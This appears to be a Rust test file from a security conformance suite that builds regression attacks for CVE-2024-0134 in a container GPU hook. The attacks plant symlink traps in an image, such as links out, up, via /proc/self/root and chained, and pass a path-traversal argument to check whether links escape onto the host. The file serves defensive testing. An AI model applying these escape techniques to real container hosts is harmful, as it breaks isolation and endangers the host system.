//! CVE-2024-0134: links that are to be made where the image has a link of its own, so that they are made on the
//! host.

use crate::attack::Attack;
use crate::road::{self, Road, Wanted};
use liftgate_conformance::hostile::Spoiling;
use std::io;

type Spoil = fn(&Spoiling<'_>) -> io::Result<()>;

const LIBRARIES: &str = "usr/local/nvidia/lib64";

/// What the image has in place of the directory `usr/lib/trap`.
const TRAPS: &[(&str, Spoil)] = &[
    ("link-out", |image| image.link_out("usr/lib/trap", "lib64")),
    ("link-up", |image| image.link_up("usr/lib/trap", "lib64")),
    ("link-to-proc-root", |image| {
        let canary = image.target("lib64");
        image.link(
            "usr/lib/trap",
            format!("/proc/self/root{}", canary.display()),
        )
    }),
    ("link-to-a-link", |image| {
        image.link_out("usr/lib/other", "")?;
        image.link("usr/lib/trap", "other/lib64")
    }),
    ("name-is-a-link", |image| {
        image.link_out("usr/lib/trap/libx.so", "lib64/libcuda.so.580.159.04")
    }),
];

pub(crate) fn attacks() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for (trap, spoil) in TRAPS {
        let arguments = [
            "create-symlinks",
            "--link",
            "libx.so.1::/usr/lib/trap/libx.so",
        ];
        let road = Road::hook(&arguments);
        let attack = Attack::new(
            format!("CVE-2024-0134/{}/{trap}", road.name()),
            "ubuntu-550",
            move |scene, target| road::attack(scene, target, &road, Wanted::GpuOrWords, "", spoil),
        );
        // A link in the last place was never followed: it is replaced, or it is in the way.
        attacks.push(if *trap == "name-is-a-link" {
            attack
        } else {
            attack.bites("joined-paths").contained(true).bit("1.16.1")
        });
    }
    // Where no image is needed: the path itself leads out, in a specification of somebody else's.
    let road = Road::hook(&[
        "create-symlinks",
        "--link",
        "libx.so.1::/usr/lib/../../../../../../../../../../../tmp/libx-of-liftgate",
    ]);
    attacks.push(Attack::new(
        "CVE-2024-0134/create-symlinks/path-with-dots",
        "ubuntu-550",
        move |scene, target| {
            let mut report =
                road::attack(scene, target, &road, Wanted::GpuOrWords, "", |_| Ok(()))?;
            let outside = std::path::Path::new("/tmp/libx-of-liftgate");
            if outside.is_symlink() {
                std::fs::remove_file(outside)?;
                report.harm.push("there is a link in `/tmp`".to_owned());
            }
            Ok(report)
        },
    ));
    // By our own hook, on every road that has one.
    for road in [Road::Runtime, Road::PrestartHook, Road::Configure] {
        let variants: [(&str, Spoil); 2] = [
            ("libraries-are-a-link-out", |image| {
                image.link_out(LIBRARIES, "lib64")
            }),
            ("libraries-are-a-link-up", |image| {
                image.link_up(LIBRARIES, "lib64")
            }),
        ];
        for (variant, spoil) in variants {
            let road = road.clone();
            // runc makes the directories that the link leads to inside; where we mount, that is refused.
            let is_runtime = matches!(road, Road::Runtime);
            let wanted = if is_runtime {
                Wanted::Gpu
            } else {
                Wanted::GpuOrWords
            };
            let attack = Attack::new(
                format!("CVE-2024-0134/{}/{variant}", road.name()),
                "h200-580",
                move |scene, target| road::attack(scene, target, &road, wanted, "", spoil),
            );
            attacks.push(attack.bites("joined-paths").contained(is_runtime));
        }
    }
    attacks
}
